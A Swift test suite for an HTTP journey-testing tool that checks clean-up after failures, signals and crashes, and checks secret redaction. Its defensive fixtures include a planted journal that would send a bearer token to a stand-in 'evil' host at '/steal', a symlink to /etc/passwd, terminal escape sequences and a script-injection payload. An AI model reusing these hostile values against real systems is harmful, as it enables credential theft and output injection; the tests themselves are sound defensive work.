import Foundation
import HTTPServer
import Notation
import Synchronization
import Testing

/// `sluice journey` through the binary: whatever ends it, what it made is removed.
@Suite struct JourneyTests {
    private static let waiting = """
        - name: wait
          wait: { url: "DESK/things/${id}", until: /state == answered, timeout: 60s, every: 50ms }
        """

    private func waiting(_ desk: DeskApp, timeout: String = "60s") -> String {
        Self.waiting.replacing("DESK", with: desk.url).replacing("60s", with: timeout)
    }

    // MARK: the way through

    @Test func aJourneyThatHoldsShipsAndLeavesNothing() async throws {
        let place = try Workplace()
        let desk = try DeskApp()
        try place.writeJourney(
            desk.url,
            steps: """
                - name: look
                  assert:
                    - { url: "\(desk.url)/things/${id}", expect: ["/id == ${make.answer.id}", /state == open] }
                    - { url: "\(desk.url)/things?q=${unique}", expect: /things count == 1 }
                """)
        let outcome = try await place.sluice("journey", "--html", "j.html", "--junit", "j.xml")
        #expect(outcome.status == 0, "\(outcome)")
        #expect(outcome.out.hasPrefix("SHIP  test  1 journey, run j-"))
        #expect(outcome.out.contains("✓ clean up make  answered 200"), "\(outcome)")
        #expect(desk.things == [])
        #expect(place.journals() == [])
        #expect(desk.calls.allSatisfy { ($0.headers["X-Sluice-Replay"] ?? "").hasPrefix("j-") })
        #expect(Set(desk.calls.compactMap { $0.headers["Idempotency-Key"] }).count == desk.calls.count)
        #expect(XMLReader.problem(place.path("j.xml")) == nil)
        #expect(try place.read("j.xml").contains(#"tests="3" failures="0" errors="0""#))
        #expect(XMLReader.problem(place.path("j.html")) == nil)
        #expect(try place.read("j.html").contains("/things/1"))

        let json = try await place.sluice("journey", "desk", "--json")
        #expect(json.status == 0, "\(json)")
        let value = try JSONValue.parse(json.out)
        #expect(value["format"] == "sluice.journey/1")
        #expect(value["verdict"] == "SHIP")
        #expect(value["journeys"]?[0]?["steps"]?[0]?["looks"]?[0]?["captured"]?["id"] == "2")
        #expect(value["journeys"]?[0]?["clean_ups"]?[0]?["result"] == "done")
    }

    @Test func whatIsAskedForMustBeThere() async throws {
        let place = try Workplace()
        let desk = try DeskApp()
        try place.writeJourney(desk.url)
        let unknown = try await place.sluice("journey", "desks")
        #expect(unknown.status == 64, "\(unknown)")
        #expect(unknown.err.contains("there are desk"))
        try place.writeJourney(desk.url, headers: "{ Authorization: \"Bearer ${env:TEST_NONE}\" }")
        let missing = try await place.sluice("journey")
        #expect(missing.status == 65, "\(missing)")
        #expect(missing.err.contains("the environment variable TEST_NONE, which a journey needs, is not set"))
        try place.writeJourney("${env:TEST_DESK}")
        let empty = try await place.sluice("journey", environment: ["TEST_DESK": ""])
        #expect(empty.status == 65, "\(empty)")
        #expect(empty.err.contains("the environment variable TEST_DESK, which"), "\(empty)")
        #expect(empty.err.contains("is empty; set it"), "\(empty)")
        try place.write("sluice.yaml", try place.read("sluice.yaml").components(separatedBy: "journey:")[0])
        #expect(try await place.sluice("journey").status == 65)
        #expect(desk.calls.isEmpty)
    }

    // MARK: failures

    @Test func aFailedAssertionBlocksAndCleansUp() async throws {
        let place = try Workplace()
        let desk = try DeskApp()
        try place.writeJourney(
            desk.url,
            steps: """
                - name: look
                  assert: { url: "\(desk.url)/things/${id}", expect: /state == closed }
                - name: never
                  act: { url: "\(desk.url)/things" }
                """)
        let outcome = try await place.sluice("journey")
        #expect(outcome.status == 1, "\(outcome)")
        #expect(outcome.out.contains(#"look: /state == closed: /state was "open""#), "\(outcome)")
        #expect(outcome.out.contains("· never  not come to"))
        #expect(outcome.out.contains(#"answer {"id":1,"#))
        #expect(desk.things == [] && place.journals() == [])
    }

    @Test func aWaitInVainBlocksSaysWhatItSawLastAndCleansUp() async throws {
        let place = try Workplace()
        let desk = try DeskApp()
        try place.writeJourney(desk.url, steps: waiting(desk, timeout: "300ms"))
        let outcome = try await place.sluice("journey", "--json")
        #expect(outcome.status == 1, "\(outcome)")
        let look = try JSONValue.parse(outcome.out)["journeys"]?[0]?["steps"]?[1]?["looks"]?[0]
        let why = try #require(look?["why"]?.stringValue)
        #expect(why.hasPrefix("not within 300 ms ("), "\(why)")
        #expect(why.hasSuffix(#"last seen for '/state == answered': /state was "open""#), "\(why)")
        #expect((look?["polls"]?.intValue ?? 0) >= 3)
        #expect(desk.things == [] && place.journals() == [])
    }

    @Test func aSystemThatIsAwayIsNoVerdictAndIsCleanedUpAfter() async throws {
        let place = try Workplace()
        let desk = try DeskApp()
        let other = try DeskApp()
        let away = other.url
        await other.stop()
        try place.writeJourney(
            desk.url,
            steps: """
                - name: look
                  assert: { url: "\(away)/x", expect: status == 200 }
                """)
        let outcome = try await place.sluice("journey")
        #expect(outcome.status == 3, "\(outcome)")
        #expect(outcome.out.contains("COULD NOT MEASURE"))
        #expect(desk.things == [] && place.journals() == [])
    }

    @Test func anActThatIsNotAnsweredIsFoundAndUndone() async throws {
        let place = try Workplace()
        let desk = try DeskApp { call in
            if call.method == "POST" { try await EventLoop.sleep(for: .seconds(20)) }
            return nil
        }
        try place.writeJourney(desk.url)
        let outcome = try await place.sluice("journey")
        #expect(outcome.status == 1, "\(outcome)")
        #expect(outcome.out.contains("did not answer within 3 s"), "\(outcome)")
        #expect(outcome.out.contains("clean up make  found, then answered 200"), "\(outcome)")
        #expect(desk.things == [] && place.journals() == [])
    }

    // MARK: being stopped

    @Test(arguments: [SIGINT, SIGTERM]) func aStoppedJourneyCleansUp(signal: Int32) async throws {
        let place = try Workplace()
        let desk = try DeskApp()
        try place.writeJourney(desk.url, steps: waiting(desk))
        let child = try place.start(["journey"])
        let isUnderWay = try await child.waits { desk.calls.count > 2 }
        try #require(isUnderWay)
        #expect(place.journals().count == 2, "journal and lock")
        child.signal(signal)
        let outcome = await child.outcome()
        #expect(outcome.status == 130, "\(outcome)")
        #expect(outcome.err.contains("what was made is cleaned up first"), "\(outcome)")
        #expect(desk.things == [], "\(outcome)")
        #expect(place.journals() == [])
    }

    @Test func aKilledJourneyIsMadeUpForOnTheNextStart() async throws {
        let place = try Workplace()
        let desk = try DeskApp()
        try place.writeJourney(desk.url, steps: waiting(desk))
        let child = try place.start(["journey"])
        let isUnderWay = try await child.waits { desk.calls.count > 2 }
        try #require(isUnderWay)
        child.signal(SIGKILL)
        #expect(await child.outcome().status == -SIGKILL)
        #expect(desk.things.count == 1)
        #expect(place.journals().contains { $0.hasSuffix(".journal") })

        // The policy no longer waits; what the dead run left is removed before anything is made.
        try place.writeJourney(desk.url)
        let next = try await place.sluice("journey")
        #expect(next.status == 0, "\(next)")
        #expect(next.out.contains("left by an earlier run: desk of run j-"), "\(next)")
        #expect(next.out.contains("✓ clean up make  answered 200 (DELETE \(desk.url)/things/1)"), "\(next)")
        #expect(Array(desk.words.suffix(3)) == ["DELETE /things/1", "POST /things", "DELETE /things/2"])
        #expect(desk.things == [] && place.journals() == [])
    }

    /// The request was on its way when the process died: its answer, and with it the id, never came.
    @Test func aJourneyThatIsKilledInItsActIsMadeUpFor() async throws {
        let place = try Workplace()
        let desk = try DeskApp { call in
            if call.method == "POST" { try await EventLoop.sleep(for: .seconds(20)) }
            return nil
        }
        try place.writeJourney(desk.url)
        let child = try place.start(["journey"])
        let isUnderWay = try await child.waits { desk.things.count == 1 }
        try #require(isUnderWay)
        child.signal(SIGKILL)
        _ = await child.outcome()
        let next = try await place.sluice("journey", "--clean-up")
        #expect(next.status == 0, "\(next)")
        #expect(next.out.contains("found, then answered 200"), "\(next)")
        #expect(desk.things == [] && place.journals() == [])
        let again = try await place.sluice("journey", "--clean-up", "--json")
        #expect(again.status == 0)
        #expect(try JSONValue.parse(again.out)["leftovers"] == [])
    }

    @Test func whatCannotBeUndoneYetIsKeptUntilItCan() async throws {
        let place = try Workplace()
        let isShut = Shut()
        let desk = try DeskApp { call in
            call.method == "DELETE" && isShut.value.withLock({ $0 }) ? DeskApp.Reply(503, "{}") : nil
        }
        // A desk that refuses has removed it all the same in this fake: what counts is what it says.
        try place.writeJourney(desk.url)
        let failed = try await place.sluice("journey")
        #expect(failed.status == 1, "\(failed)")
        #expect(
            failed.out.contains("✗ clean up make  the system answered 503"), "\(failed)")
        let words = failed.out.split(whereSeparator: \.isWhitespace).joined(separator: " ")
        #expect(words.contains("it is kept and tried again on the next start"), "\(failed)")
        #expect(place.journals().count == 1)
        let still = try await place.sluice("journey", "--clean-up")
        #expect(still.status == 3, "\(still)")
        #expect(still.out.contains("remove that file to give it up"), "\(still)")
        isShut.value.withLock { $0 = false }
        let done = try await place.sluice("journey", "--clean-up")
        #expect(done.status == 0, "\(done)")
        #expect(place.journals() == [])
    }

    private final class Shut: Sendable { let value = Mutex(true) }

    @Test func aRunThatLivesIsLeftAlone() async throws {
        let place = try Workplace()
        let desk = try DeskApp()
        try place.writeJourney(desk.url, steps: waiting(desk))
        let child = try place.start(["journey"])
        let isUnderWay = try await child.waits { desk.calls.count > 2 }
        try #require(isUnderWay)
        let second = try await place.sluice("journey", "--clean-up")
        #expect(second.status == 3, "\(second)")
        #expect(second.out.contains("its run is still under way"), "\(second)")
        #expect(desk.things.count == 1, "what the other run made is its own")
        child.signal(SIGTERM)
        #expect(await child.outcome().status == 130)
        #expect(desk.things == [] && place.journals() == [])
    }

    // MARK: secrets

    @Test func aSecretReachesTheSystemAndNothingElse() async throws {
        let secret = "s3cr3t-Qx7-value"
        let place = try Workplace()
        let desk = try DeskApp { call in
            if call.method == "DELETE" {
                return DeskApp.Reply(500, "no: \(call.headers["Authorization"] ?? "")")
            }
            guard call.method == "POST" else { return nil }
            return DeskApp.Reply(
                201, #"{"id": 1, "echo": "\#(call.headers["Authorization"] ?? "")"}"#,
                headers: ["Content-Type": "application/json", "X-Echo": call.headers["Authorization"] ?? ""])
        }
        try place.writeJourney(
            desk.url, headers: "{ Authorization: \"Bearer ${env:TEST_TOKEN}\" }",
            steps: """
                - name: look
                  assert:
                    method: POST
                    url: "\(desk.url)/things"
                    headers: { Authorization: "Bearer ${env:TEST_TOKEN}" }
                    json: { name: x }
                    expect: [/echo == other, header X-Echo == other, text contains other]
                """)
        let environment = ["TEST_TOKEN": secret]
        let outcomes = [
            try await place.sluice(
                "journey", "--html", "j.html", "--junit", "j.xml", environment: environment),
            try await place.sluice("journey", "--json", environment: environment),
        ]
        #expect(outcomes.map(\.status) == [1, 1], "\(outcomes)")
        #expect(desk.calls.contains { $0.headers["Authorization"] == "Bearer \(secret)" })
        #expect(place.journals().count >= 1, "a clean-up that failed is kept")
        for name in place.files() {
            let text = try place.read(name)
            #expect(!text.contains(secret), "the secret stands in \(name)")
            if name.hasSuffix(".journal") { #expect(text.contains("Bearer ${env:TEST_TOKEN}")) }
        }
        for outcome in outcomes {
            #expect(!outcome.out.contains(secret) && !outcome.err.contains(secret))
            #expect(outcome.out.contains("<redacted>"))
        }
    }

    /// A folder of a pull request may hold a journal of somebody else's making.
    @Test func aPlantedJournalSendsNothingAnywhere() async throws {
        let place = try Workplace()
        let desk = try DeskApp()
        let evil = try DeskApp()
        try place.writeJourney(desk.url, headers: "{ Authorization: \"Bearer ${env:TEST_TOKEN}\" }")
        func line(_ number: Int, _ url: String, _ header: String) -> String {
            let value: JSONValue = [
                "event": "intends", "number": .integer(Int64(number)), "step": "s\u{1B}[2J",
                "clean_up": ["method": "DELETE", "url": .string(url), "headers": [["A", .string(header)]]],
                "values": [],
            ]
            return value.text()
        }
        let head =
            #"{"event":"began","format":"sluice.journey-journal/1","run":"j-0","journey":"x\u001b[2J","unique":"u"}"#
        let lines = [
            head, line(0, evil.url + "/steal", "${env:TEST_TOKEN}"), line(1, desk.url + "/x", "${env:HOME}"),
            line(2, "http://u@\(evil.url.dropFirst(7))/x", "a"),
        ]
        try place.write(".sluice/journeys/j-0.journal", lines.joined(separator: "\n") + "\n")
        try place.write(".sluice/journeys/j-1.journal", head + "\n{\"event\": \"nonsense\"}\n")
        try place.write(".sluice/journeys/j-2.journal", [0xFF, 0xFE, 0x00, 0x0A])
        symlink("/etc/passwd", place.path(".sluice/journeys/j-3.journal"))
        let outcome = try await place.sluice("journey", environment: ["TEST_TOKEN": "s3cr3t-value"])
        #expect(outcome.status == 0, "\(outcome)")
        #expect(evil.calls.isEmpty)
        #expect(!desk.words.contains("DELETE /x"))
        #expect(outcome.out.contains("no journey of the policy calls \(evil.url)"), "\(outcome)")
        #expect(outcome.out.contains("no journey of the policy gives ${env:HOME}"), "\(outcome)")
        #expect(!outcome.out.contains("\u{1B}"))
        for number in 0...3 { #expect(place.exists(".sluice/journeys/j-\(number).journal")) }
    }

    /// Half a line was never acknowledged: the step it would have meant was never begun.
    @Test func aTornJournalIsReadToItsLastWholeLine() async throws {
        let place = try Workplace()
        let desk = try DeskApp()
        try place.writeJourney(desk.url, steps: waiting(desk))
        let child = try place.start(["journey"])
        let isUnderWay = try await child.waits { desk.calls.count > 2 }
        try #require(isUnderWay)
        child.signal(SIGKILL)
        _ = await child.outcome()
        let journal = try #require(place.journals().first { $0.hasSuffix(".journal") })
        try place.write(journal, try place.read(journal) + #"{"event":"intends","number":1,"ste"#)
        let next = try await place.sluice("journey", "--clean-up")
        #expect(next.status == 0, "\(next)")
        #expect(desk.things == [] && place.journals() == [])
    }

    // MARK: hostile answers

    @Test(arguments: ["huge", "invalid", "control", "redirect", "empty", "dots", "object"])
    func aHostileAnswerIsAFailureAndIsCleanedUp(kind: String) async throws {
        let place = try Workplace()
        let evil = try DeskApp()
        let evilURL = evil.url
        let desk = try DeskApp { call in
            guard call.method == "POST" else { return nil }
            switch kind {
            case "huge":
                return DeskApp.Reply(201, "{\"id\": \"" + String(repeating: "x", count: 4 << 20) + "\"}")
            case "invalid": return DeskApp.Reply(201, "{\"id\": 1, \u{1B}[2J")
            case "control": return DeskApp.Reply(500, "\u{1B}]0;owned\u{7}\u{202E}<script>alert(1)</script>")
            case "redirect": return DeskApp.Reply(307, "", headers: ["Location": evilURL + "/x"])
            case "empty": return DeskApp.Reply(201, "{\"id\": \"\"}")
            case "dots": return DeskApp.Reply(201, "{\"id\": \"..\"}")
            default: return DeskApp.Reply(201, "{\"id\": {\"a\": 1}}")
            }
        }
        try place.writeJourney(
            desk.url,
            steps: """
                - name: look
                  assert: { url: "\(desk.url)/things/${id}", expect: status == 200 }
                """)
        let outcome = try await place.sluice("journey", "--html", "j.html", "--junit", "j.xml")
        #expect(outcome.status == 1, "\(outcome)")
        #expect(evil.calls.isEmpty)
        #expect(
            !desk.words.contains { $0 == "DELETE /things/" || $0 == "DELETE /" || $0 == "DELETE /things" })
        for text in [outcome.out, try place.read("j.html"), try place.read("j.xml")] {
            #expect(!text.contains("\u{1B}") && !text.contains("\u{202E}"))
        }
        #expect(!(try place.read("j.html").contains("<script>alert")))
        #expect(XMLReader.problem(place.path("j.xml")) == nil)
        #expect(XMLReader.problem(place.path("j.html")) == nil)
        // Where the answer hid the id, the thing was found; where it lied, the clean-up is kept.
        if ["huge", "invalid", "control", "redirect"].contains(kind) {
            #expect(desk.things == [] && place.journals() == [], "\(outcome)")
        } else {
            #expect(place.journals().count == 1, "\(outcome)")
        }
    }

    @Test func anAnswerWithoutAnEndIsCutOffAndCleanedUp() async throws {
        let place = try Workplace()
        let desk = try DeskApp()
        let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"
        let raw = try RawApp(Array(head.utf8), then: .hang)
        defer { raw.stop() }
        try place.writeJourney(
            desk.url,
            steps: """
                - name: look
                  assert: { url: "\(raw.url)x", timeout: 500ms, expect: status == 200 }
                """)
        let outcome = try await place.sluice("journey")
        #expect(outcome.status == 1, "\(outcome)")
        #expect(outcome.out.contains("was not whole within 500 ms"), "\(outcome)")
        #expect(desk.things == [] && place.journals() == [])
    }

    /// A token that an answer showed before a later step captured it as a secret.
    @Test func aSecretThatIsCapturedLateIsTakenOutOfWhatWasShownBefore() async throws {
        let token = "tok-9f8e7d6c5b4a"
        let place = try Workplace()
        let desk = try DeskApp { call in
            call.method == "GET"
                ? DeskApp.Reply(200, #"{"token": "\#(token)", "name": "x"}"#) : nil
        }
        try place.writeJourney(
            desk.url,
            steps: """
                - name: show
                  assert: { url: "\(desk.url)/session", expect: [/token exists, /name == x] }
                - name: keep
                  act: { url: "\(desk.url)/session", method: GET, capture: { token: secret /token } }
                - name: last
                  assert: { url: "\(desk.url)/session", expect: [/name == y] }
                """)
        let outcome = try await place.sluice("journey", "--json", "--html", "j.html")
        #expect(outcome.status == 1, "\(outcome)")
        #expect(!outcome.out.contains(token) && outcome.out.contains("<redacted>"), "\(outcome)")
        #expect(!(try place.read("j.html")).contains(token))
    }
}
